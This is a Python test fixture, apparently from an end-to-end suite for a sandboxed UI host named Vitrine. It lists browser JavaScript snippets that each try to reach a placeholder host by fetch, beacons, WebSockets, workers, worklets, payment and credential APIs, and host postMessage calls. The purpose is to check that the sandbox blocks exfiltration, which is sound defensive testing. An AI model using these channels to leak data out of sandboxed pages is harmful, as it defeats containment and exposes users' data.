"""Ways by the browser's own interfaces for requests, workers and services."""

from e2e.exfiltration.ways.way import Way

_OPAQUE = "refused in an opaque origin, and in this browser's plain frames too"
_ABSENT = "this browser has no such thing here"
_ASKS = "the browser asks a person first"
_WITHOUT_HTTPS = "only HTTPS addresses are taken"


def _worker(name: str, body: str, kind: str = "Worker") -> Way:
    blob = f"new Blob([`{body}`], {{type: 'text/javascript'}})"
    return Way(name, script=f"window.worker = new {kind}(URL.createObjectURL({blob}));")


REQUESTS = [
    Way("fetch", script="await fetch('$URL');"),
    Way("fetch-post", script="await fetch('$URL', {method: 'POST', mode: 'no-cors', body: 'x'});"),
    Way("fetch-keepalive", script="await fetch('$URL', {keepalive: true, mode: 'no-cors'});"),
    Way("fetch-credentials", script="await fetch('$URL', {credentials: 'include'});"),
    Way("fetch-later", script="fetchLater('$URL', {activateAfter: 0});"),
    Way(
        "fetch-while-leaving",
        script="addEventListener('pagehide', () => fetch('$URL', {keepalive: true}));"
        "location.href = 'about:blank';",
    ),
    Way(
        "beacon-while-leaving",
        script="addEventListener('pagehide', () => navigator.sendBeacon('$URL'));"
        "location.href = 'about:blank';",
    ),
    Way("beacon", script="navigator.sendBeacon('$URL', 'x');"),
    Way("xhr", script="const x = new XMLHttpRequest(); x.open('GET', '$URL'); x.send();"),
    Way(
        "xhr-sync", script="const x = new XMLHttpRequest(); x.open('GET', '$URL', false); x.send();"
    ),
    Way("event-source", script="new EventSource('$URL');"),
    Way("websocket", script="new WebSocket('ws://$HOST/x?secret=1');"),
    Way("websocket-stream", script="new WebSocketStream('ws://$HOST/x');"),
    Way("webtransport", script="const w = new WebTransport('https://$HOST/x'); await w.ready;"),
    Way("dynamic-import", script="await import('$URL');"),
    Way("image-object", script="new Image().src = '$URL';"),
    Way("audio-object", script="new Audio('$URL').load();"),
    Way(
        "script-element",
        script="const s = document.createElement('script'); s.src = '$URL';"
        "document.head.append(s);",
    ),
    Way(
        "link-element",
        script="const l = document.createElement('link'); l.rel = 'prefetch';"
        "l.href = '$URL'; document.head.append(l);",
    ),
    Way("set-html-unsafe", '<div id="d"></div>', "d.setHTMLUnsafe('<img src=$URL>');"),
    Way("document-write", script="document.write('<img src=$URL>');"),
    Way(
        "document-open",
        script="document.open(); document.write('<img src=$URL>');document.close();",
    ),
    # Workers and worklets
    Way("worker-src", script="new Worker('$URL');", mute=_OPAQUE),
    Way("worker-src-module", script="new Worker('$URL', {type: 'module'});", mute=_OPAQUE),
    _worker("blob-worker-fetch", "fetch('$URL')"),
    _worker("blob-worker-import", "importScripts('$URL')"),
    _worker("blob-worker-websocket", "new WebSocket('ws://$HOST/x')"),
    _worker("blob-worker-xhr", "const x = new XMLHttpRequest(); x.open('GET', '$URL'); x.send()"),
    _worker("blob-worker-event-source", "new EventSource('$URL')"),
    _worker("blob-worker-module", "import('$URL')"),
    _worker(
        "blob-worker-worker",
        "new Worker(URL.createObjectURL(new Blob(['fetch(\\\"$URL\\\")'])))",
    ),
    Way(
        "data-worker-fetch",
        script="new Worker('data:text/javascript,' + encodeURIComponent(`fetch('$URL')`));",
    ),
    Way("shared-worker-src", script="new SharedWorker('$URL');", mute=_OPAQUE),
    _worker("shared-worker-fetch", "fetch('$URL')", "SharedWorker"),
    Way("service-worker", script="await navigator.serviceWorker.register('$URL');", mute=_OPAQUE),
    Way(
        "audio-worklet",
        script="await new OfflineAudioContext(1, 1, 8000).audioWorklet.addModule('$URL');",
    ),
    Way("paint-worklet", script="await CSS.paintWorklet.addModule('$URL');"),
    Way("shared-storage", script="await sharedStorage.worklet.addModule('$URL');", mute=_ABSENT),
    Way("cache-add", script="const c = await caches.open('x'); await c.add('$URL');"),
    # Services that look something up
    Way(
        "payment-request",
        script="await new PaymentRequest([{supportedMethods: '$URL'}],"
        "{total: {label: 'x', amount: {currency: 'CHF', value: '1'}}}).canMakePayment();",
    ),
    Way(
        "federated-sign-in",
        script="await navigator.credentials.get({identity: {"
        "providers: [{configURL: '$URL', clientId: 'x'}]}});",
    ),
    Way(
        "passkey-related-origin",
        script="await navigator.credentials.get({publicKey: {rpId: '127.0.0.1',"
        "challenge: new Uint8Array(32)}});",
        mute=_WITHOUT_HTTPS,
    ),
    Way(
        "ad-interest-group",
        script="await navigator.joinAdInterestGroup("
        "{owner: 'https://$HOST', name: 'x', lifetimeMs: 9e6}, 9e6);",
        mute=_ABSENT,
    ),
    Way("presentation", script="await new PresentationRequest('$URL').start();", mute=_ASKS),
    Way("share", script="await navigator.share({url: '$URL'});", mute=_ASKS),
    Way(
        "protocol-handler",
        script="navigator.registerProtocolHandler('web+x', '$URL&u=%s');",
        mute=_ASKS,
    ),
    Way("notification", script="new Notification('x', {icon: '$URL', image: '$URL'});", mute=_ASKS),
    Way(
        "media-session",
        script="navigator.mediaSession.metadata = new MediaMetadata("
        "{title: 'x', artwork: [{src: '$URL'}]});",
        mute="nothing shows it here",
    ),
    Way(
        "clipboard",
        script="await navigator.clipboard.writeText('$URL');",
        mute="the clipboard sends nothing",
    ),
    Way("print", script="print();", mute="nothing is printed here"),
    Way(
        "xslt-document",
        script="""const parse = (text) => new DOMParser().parseFromString(text, 'text/xml');
        const p = new XSLTProcessor();
        p.importStylesheet(parse(`<xsl:stylesheet version="1.0"
          xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">
          <xsl:copy-of select="document('$URL')"/></xsl:template></xsl:stylesheet>`));
        p.transformToFragment(parse('<x/>'), document);""",
        mute=_ABSENT,
    ),
    # By Vitrine itself: without a person's yes nothing may go
    Way(
        "host-open-link",
        script="parent.postMessage({jsonrpc: '2.0', id: 9,"
        "method: 'ui/open-link', params: {url: '$URL'}}, '*');",
        alone=True,
        mute="it is Vitrine's own, and asks",
    ),
    Way(
        "host-download",
        script="parent.postMessage({jsonrpc: '2.0', id: 9,"
        "method: 'ui/download-file', params: {contents: [{type: 'resource_link', uri: '$URL',"
        "name: 'x'}]}}, '*');",
        alone=True,
        mute="it is Vitrine's own, and asks",
    ),
    Way(
        "host-message",
        script="parent.postMessage({jsonrpc: '2.0', id: 9, method: 'ui/message',"
        "params: {role: 'user', content: [{type: 'text', text: '![x]($URL)'}]}}, '*');",
        mute="it is Vitrine's own, and shows text",
    ),
    Way(
        "host-log",
        script="parent.postMessage({jsonrpc: '2.0',"
        "method: 'notifications/message', params: {level: 'error', data: '<img src=$URL>'}}, '*');",
        mute="it is Vitrine's own, and shows text",
    ),
    Way(
        "host-resource",
        script="parent.postMessage({jsonrpc: '2.0', id: 9,"
        "method: 'resources/read', params: {uri: '$URL'}}, '*');",
        mute="it is Vitrine's own, and asks the view's server",
    ),
]
